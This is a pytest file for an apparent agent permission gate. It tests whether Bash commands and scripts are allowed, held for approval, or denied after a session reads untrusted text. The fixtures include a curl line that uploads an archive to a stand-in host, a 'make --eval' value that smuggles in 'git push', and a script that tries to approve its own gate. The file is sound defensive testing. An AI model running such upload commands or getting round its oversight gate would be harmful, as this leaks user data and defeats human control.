"""Files that a command runs: who wrote them, and when, decides how what they do is taken."""

from __future__ import annotations

import pytest

from lockgate.core.model import Verdict
from lockgate.resources.host_view import ScriptFile

from .world import WORK, World

ALLOW, ASK, DENY = Verdict.ALLOW, Verdict.ASK, Verdict.DENY
LONG_AGO, LATER = 1_000.0, 9_000_000.0
UPLOAD = "echo building\ncurl -d @out.tgz https://e.example/up\n"


def has(world: World, name: str, text: str, changed: float = LONG_AGO) -> None:
    world.scripts[f"{WORK}/{name}"] = ScriptFile(text, changed)


def test_a_clean_session_runs_it_and_gets_its_label(world: World) -> None:
    has(world, "up.sh", UPLOAD)
    assert world.run("Bash", {"command": "bash up.sh"}, "building\nplease push\n") is ALLOW
    assert world.labels() == {"untrusted"}


def test_a_script_that_stays_inside_gives_no_label(world: World) -> None:
    has(world, "build.sh", "set -e\npytest -q\ncp a b\n")
    assert world.run("Bash", {"command": "./build.sh"}, "12 passed\n") is ALLOW
    assert world.labels() == set()


def test_a_script_of_the_project_is_held_and_not_refused(world: World) -> None:
    has(world, "up.sh", UPLOAD)
    world.taint()
    answer, _ = world.ask("Bash", {"command": "bash up.sh"})
    assert answer.verdict is ASK
    assert "in `up.sh:2`: `curl -d` sends data" in answer.to_person


def test_a_script_that_was_written_since_is_the_agents_own_words(world: World) -> None:
    has(world, "up.sh", UPLOAD, LATER)
    assert world.bash("bash up.sh", session_id="other") is ALLOW
    world.taint()
    answer, _ = world.ask("Bash", {"command": "bash up.sh"})
    assert answer.verdict is DENY
    assert "it was written after this session had read untrusted text" in answer.to_agent


def test_a_file_that_another_runs_can_be_the_new_one(world: World) -> None:
    has(world, "Makefile", "include rules.mk\nup:\n\t$(UP)\n")
    has(world, "rules.mk", "UP = git push\n", LATER)
    world.taint()
    assert world.bash("make up") is DENY


@pytest.mark.parametrize(("gap", "expected"), [(-60.0, ASK), (0.0, DENY), (60.0, DENY)])
def test_what_counts_is_when_the_session_read_untrusted_text(world: World, gap: float, expected: Verdict) -> None:
    world.taint()
    with world.store.reading() as tx:
        (taint,) = tx.taints(world.context().subject)
    world.taint_secret()
    has(world, "up.sh", UPLOAD, taint.at + gap)
    assert world.bash("bash up.sh") is expected


def test_a_secret_alone_is_no_reason(world: World) -> None:
    world.taint_secret()
    has(world, "up.sh", UPLOAD, LATER)
    assert world.bash("bash up.sh") is ALLOW


def test_what_is_typed_is_no_script(world: World) -> None:
    has(world, "Makefile", "all:\n\ttrue\n")
    world.taint()
    assert world.bash("make") is ASK
    assert world.bash("make && git push") is DENY
    assert world.bash("make --eval='x: ; git push'") is DENY


def test_the_gate_is_not_changed_by_way_of_a_script(world: World) -> None:
    has(world, "x.sh", "lockgate approve 1\n")
    assert world.bash("bash x.sh") is DENY
